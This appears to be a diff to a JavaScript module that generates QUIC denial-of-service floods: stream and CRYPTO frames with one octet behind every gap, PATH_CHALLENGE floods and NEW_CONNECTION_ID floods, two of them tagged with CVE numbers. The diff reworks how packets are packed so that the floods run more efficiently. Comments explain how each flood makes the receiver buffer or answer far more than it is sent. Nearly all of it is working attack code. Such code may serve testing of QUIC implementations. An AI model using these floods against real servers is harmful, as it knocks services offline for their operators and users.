@@ -4,6 +4,8 @@ import { cryptoFrame, streamFrame, varint } from "./quic-packets.mjs";
 /** The first octet that is sent: octet 0 never comes. */
 const BEHIND_THE_GAP = 1;
 const OCTET = Buffer.of(7);
+/** With its length. */
+const ONE_OCTET = Buffer.of(1, 7);
 const BLOCK = Buffer.alloc(1200, 7);
 const TICKS = Buffer.alloc(1200);
 /** Blocks of ticks before the gap: some 11 MiB. */
@@ -15,26 +17,32 @@ const STREAMS = 100;
 
 const CHALLENGE_BYTES = 9;
 const ANSWERED_OCTETS = 7;
+/** Of a frame with its number, all before it, an id of 8 and a token of 16. */
+const NEW_ID_BYTES = 34;
 const CHALLENGES = Buffer.alloc(1200, Buffer.of(0x1a, 1, 2, 3, 4, 5, 6, 7, 8));
 
-/** Fills a packet: `make(n)` is the nth frame of the flood. */
-function packed(room, counter, make) {
-  const frames = [];
-  for (let left = room; ; ) {
-    const frame = make(counter.next);
-    left -= frame.length;
-    if (left < 0) return Buffer.concat(frames);
-    counter.next++;
-    frames.push(frame);
-  }
+/**
+ * A packet full of the same frame but for a number in four octets: `head`, the number, `tail`.
+ * @param {(n: number) => number} value the number in the nth frame of the flood
+ */
+function filled(room, counter, [head, value, tail]) {
+  const length = head.length + 4 + tail.length;
+  const count = Math.floor(room / length);
+  const packet = Buffer.alloc(count * length, Buffer.concat([head, Buffer.alloc(4), tail]));
+  for (let i = 0; i < count; i++) packet.writeUInt32BE(0x80000000 + value(counter.next++), i * length + head.length);
+  return packet;
+}
+
+function newIdFrame(n) {
+  const frame = Buffer.alloc(NEW_ID_BYTES);
+  frame[0] = 0x18;
+  for (const at of [1, 5]) frame.writeUInt32BE(0x80000000 + n, at);
+  frame[9] = 8;
+  frame.writeUInt32BE(n, 10);
+  return frame;
 }
 
 const block = (room) => BLOCK.subarray(0, room - HEAD_BYTES);
-const newIdFrame = (n) => {
-  const id = Buffer.alloc(24);
-  id.writeUInt32BE(n);
-  return Buffer.concat([Buffer.of(0x18), varint(n), varint(n), Buffer.of(8), id]);
-};
 const everySecond = (n) => BEHIND_THE_GAP + 2 * n;
 
 /**
@@ -55,7 +63,8 @@ export const FLOODS = {
     return streamFrame((stream & 3) + 4 * (n % STREAMS), offset, bytes);
   },
   /** One octet at every second offset: each costs the receiver many times its size. */
-  "gap-octets": (room, counter, stream) => packed(room, counter, (n) => streamFrame(stream, everySecond(n), OCTET)),
+  "gap-octets": (room, counter, stream) =>
+    filled(room, counter, [Buffer.concat([Buffer.of(0x0e), varint(stream)]), everySecond, ONE_OCTET]),
   /** One such octet in each datagram. */
   "gap-small": (_room, counter, stream) => streamFrame(stream, everySecond(counter.next++), OCTET),
   /** Ticks that are read, and then data behind a gap: octets that were given pay for none that were not. */
@@ -64,7 +73,7 @@ export const FLOODS = {
     const n = counter.next++;
     return streamFrame(stream, n * bytes.length + (n < READ_BLOCKS ? 0 : BEHIND_THE_GAP), bytes);
   },
-  /** A few such octets with a challenge, whose answer is larger than all of it: what the peer has to send pays for nothing. */
+  /** A few such octets with a challenge in each datagram: what the peer has to answer pays for nothing. */
   "gap-answered": (_room, counter, stream) => {
     const frames = Array.from({ length: ANSWERED_OCTETS }, () =>
       streamFrame(stream, everySecond(counter.next++), OCTET),
@@ -76,14 +85,12 @@ export const FLOODS = {
     const bytes = block(room);
     return cryptoFrame(2 ** 20 + bytes.length * counter.next++, bytes);
   },
-  "crypto-octets": (room, counter) => packed(room, counter, (n) => cryptoFrame(2 ** 20 + 2 * n, OCTET)),
+  "crypto-octets": (room, counter) => filled(room, counter, [Buffer.of(6), (n) => 2 ** 20 + 2 * n, ONE_OCTET]),
   /** Each is kept until it is answered, and the answers wait for the ACKs of others (CVE-2023-6193). */
   "path-challenge": (room) => CHALLENGES.subarray(0, room - (room % CHALLENGE_BYTES)),
   /** Each retires all before it, and each of those is to be told (CVE-2024-1410). */
-  "new-connection-id": (room, counter) => packed(room, counter, (n) => newIdFrame(n + 1)),
-  /** PING alone: every packet wants an answer, and costs nothing. */
-  ping: (_room, counter) => {
-    counter.next++;
-    return Buffer.of(1, 0, 0, 0);
+  "new-connection-id": (room, counter) => {
+    const count = Math.floor(room / NEW_ID_BYTES);
+    return Buffer.concat(Array.from({ length: count }, () => newIdFrame(++counter.next)));
   },
 };
